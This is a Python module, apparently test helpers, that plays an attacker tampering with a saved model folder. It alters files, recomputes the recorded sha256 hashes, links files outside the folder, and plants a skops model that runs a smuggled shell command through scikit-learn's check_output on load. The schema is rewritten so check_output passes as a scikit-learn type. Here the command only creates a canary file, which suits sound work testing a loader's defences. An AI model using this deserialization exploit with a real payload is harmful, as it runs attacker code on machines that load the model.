"""What an attacker who can write a model folder does: change a file, then recompute every hash the folder records."""

import hashlib
import json
import shlex
import zipfile
from pathlib import Path

import numpy as np
import skops.io
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer
from sklearn.utils._testing import check_output  # subprocess.check_output, importable from a scikit-learn module

try:  # "[{source}] ....{message}, total={time}": a scikit-learn string helper
    from sklearn.utils._user_interface import _message_with_time
except ImportError:  # scikit-learn < 1.5
    from sklearn.utils import _message_with_time


def sha256(path: Path) -> str:
    """The hex sha256 of a file."""
    return hashlib.sha256(path.read_bytes()).hexdigest()


def reseal_manifest(folder: Path) -> None:
    """Recompute the sha256 of every file of the folder in manifest.json."""
    files = {path.name: sha256(path) for path in sorted(folder.iterdir()) if path.name != "manifest.json"}
    (folder / "manifest.json").write_text(json.dumps({"files": files}))


def reseal(folder: Path) -> None:
    """Recompute the model's sha256 in metadata.json, then the manifest."""
    metadata = json.loads((folder / "metadata.json").read_text())
    metadata["model_sha256"] = sha256(folder / "model.skops")
    (folder / "metadata.json").write_text(json.dumps(metadata))
    reseal_manifest(folder)


def edit_metadata(folder: Path, drop: str | None = None, **changes) -> None:
    """Rewrite some metadata fields (or ``drop`` one) and reseal the folder."""
    metadata = {**json.loads((folder / "metadata.json").read_text()), **changes}
    (folder / "metadata.json").write_text(json.dumps({k: v for k, v in metadata.items() if k != drop}))
    reseal(folder)


def rewrite(folder: Path, name: str, content: str) -> None:
    """Replace one file of the folder, then recompute the hashes that cover it."""
    (folder / name).write_text(content)
    if name == "model.skops":
        reseal(folder)
    else:
        reseal_manifest(folder)


def append_byte(path: Path) -> None:
    """Change a file the way a corrupted download or a one-byte patch does."""
    with path.open("ab") as file:
        file.write(b"\0")


def link_outside(folder: Path, name: str) -> None:
    """Move a file of the folder beside it and leave a symbolic link to it in its place."""
    outside = folder.parent / f"outside-{name}"
    (folder / name).replace(outside)
    (folder / name).symlink_to(outside)


def replace_model(folder: Path, estimator: object) -> None:
    """Swap in another estimator and reseal the folder."""
    skops.io.dump(estimator, folder / "model.skops")
    reseal(folder)


def command_running_model(canary: Path, width: int) -> Pipeline:
    """The review's exploit: a FunctionTransformer builds a shell command with a scikit-learn string helper,
    the next runs it with check_output, then a real classifier (which fails, after the command ran)."""
    command = f"; touch {shlex.quote(str(canary))} #"
    classifier = LogisticRegression().fit(np.eye(width), np.arange(width) % 2)
    return Pipeline(
        [
            ("build", FunctionTransformer(_message_with_time, kw_args={"message": command, "time": 0})),
            ("run", FunctionTransformer(check_output, kw_args={"shell": True, "stderr": -3})),  # -3: subprocess.DEVNULL
            ("classify", classifier),
        ]
    )


def edit_schema(folder: Path, edit) -> None:
    """Rewrite the schema.json inside the folder's skops file with ``edit`` (bytes to bytes), and reseal."""
    model_file = folder / "model.skops"
    with zipfile.ZipFile(model_file) as source:
        items = [(item, source.read(item)) for item in source.infolist()]
    with zipfile.ZipFile(model_file, "w") as target:
        for item, data in items:
            target.writestr(item, edit(data) if item.filename == "schema.json" else data)
    reseal(folder)


def plant_exploit(folder: Path, canary: Path, width: int) -> None:
    """Replace a folder's model with the exploit, naming check_output by its scikit-learn module, and reseal."""
    (folder / "model.skops").write_bytes(skops.io.dumps(command_running_model(canary, width)))
    # skops records subprocess, the module that defines check_output; the attacker names the scikit-learn one
    edit_schema(
        folder, lambda schema: schema.replace(b'"__module__": "subprocess"', b'"__module__": "sklearn.utils._testing"')
    )
